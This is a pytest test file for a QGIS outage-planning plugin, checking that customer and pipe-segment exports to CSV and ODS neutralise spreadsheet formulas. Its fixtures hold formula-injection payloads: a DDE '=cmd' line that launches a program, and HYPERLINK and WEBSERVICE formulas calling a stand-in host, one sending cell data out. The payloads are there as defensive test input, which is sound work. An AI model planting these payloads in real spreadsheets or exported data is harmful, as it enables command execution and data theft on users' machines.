"""The layers Processing writes keep spreadsheet formulas inert, in the formats that run them.

``OUTPUT_CUSTOMERS`` (and every other result layer of the provider) is
written by QGIS's own sink, in whatever format the user picks. A CSV is
opened by a spreadsheet, which runs ``=cmd|…`` or ``=HYPERLINK(…)``; GDAL's
ODS writer turns ``of:=…`` into a live formula. Those two formats get the
same guard as the plugin's own CSVs; a GeoPackage (data for machines)
keeps every value as typed. Phone numbers stay dialable everywhere.
"""

from __future__ import annotations

import csv
import re
import zipfile

import pytest
from gpkg_layers import text_points, write_layer

CMD = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://x.example/?"&A1;"Apri")'
ODS = 'of:=WEBSERVICE("http://x.example")'
PHONE = "+393331234567"


@pytest.fixture()
def hostile_customers(qgis_app, tmp_path):
    rows = [
        ("C1", PHONE, CMD, "Imola"),
        ("C2", "+39 333 2222222", "Via Emilia", LINK),
        (ODS, "+39 333 3333333", "Via Cavour", "Imola"),
    ]
    return text_points(tmp_path / "customers.gpkg", ("code", "mobile", "street", "town"), rows)


def run_customers(run_algorithm, layer, output):
    run_algorithm(
        "outage:customers",
        {
            "CUSTOMERS": layer,
            "CUSTOMER_ID_FIELD": "code",
            "PHONE_FIELD": "mobile",
            "ADDRESS_FIELD": "street",
            "MUNICIPALITY_FIELD": "town",
            "EXPRESSION": "true",
            "OUTPUT_CUSTOMERS": str(output),
        },
    )


def test_the_customers_csv_keeps_no_formula_and_dialable_phones(
    run_algorithm, hostile_customers, tmp_path
):
    output = tmp_path / "customers.csv"
    run_customers(run_algorithm, hostile_customers, output)
    with open(output, encoding="utf-8", newline="") as handle:
        rows = {row["code"]: row for row in csv.DictReader(handle)}
    assert rows["C1"]["address"] == "'" + CMD
    assert rows["C2"]["municipality"] == "'" + LINK
    assert "'" + ODS in rows
    assert rows["C1"]["phone"] == PHONE
    cells = [cell for row in rows.values() for cell in row.values() if cell]
    assert not [cell for cell in cells if cell.startswith(("=", "of:="))]


def test_the_customers_ods_has_no_formula_cell(run_algorithm, hostile_customers, tmp_path):
    output = tmp_path / "customers.ods"
    run_customers(run_algorithm, hostile_customers, output)
    content = zipfile.ZipFile(output).read("content.xml").decode("utf-8")
    # GDAL writes the boolean fields (sensitive, reachable) as TRUE()/FALSE() formulas.
    formulas = set(re.findall(r'table:formula="([^"]*)"', content))
    assert formulas <= {"of:=TRUE()", "of:=FALSE()"}
    assert "&apos;" + CMD.replace("'", "&apos;") in content or "'" + CMD in content
    assert f"<text:p>{PHONE}</text:p>" in content


def test_a_geopackage_keeps_the_values_as_typed(run_algorithm, hostile_customers, tmp_path):
    from qgis.core import QgsVectorLayer

    output = tmp_path / "out.gpkg"
    run_customers(run_algorithm, hostile_customers, output)
    layer = QgsVectorLayer(str(output), "out", "ogr")
    values = {f["code"]: f["address"] for f in layer.getFeatures()}
    assert values["C1"] == CMD and ODS in values


def test_the_segments_csv_defuses_pipe_ids(run_algorithm, tmp_path):
    from gpkg_layers import UTM, line, point

    path = tmp_path / "net.gpkg"
    pipes = write_layer(
        path,
        "pipes",
        "LineString",
        UTM,
        {"code": str},
        [(line((0, 0), (100, 0)), {"code": CMD}), (line((100, 0), (200, 0)), {"code": "P2"})],
    )
    valves = write_layer(
        path, "valves", "Point", UTM, {"code": str}, [(point(100, 0), {"code": "V1"})]
    )
    output = tmp_path / "segments.csv"
    run_algorithm(
        "outage:segments",
        {
            "PIPES": pipes,
            "PIPE_ID_FIELD": "code",
            "VALVES": valves,
            "VALVE_ID_FIELD": "code",
            "OUTPUT": str(output),
        },
    )
    with open(output, encoding="utf-8", newline="") as handle:
        codes = sorted(row["code"] for row in csv.DictReader(handle))
    assert codes == ["'" + CMD, "P2"]
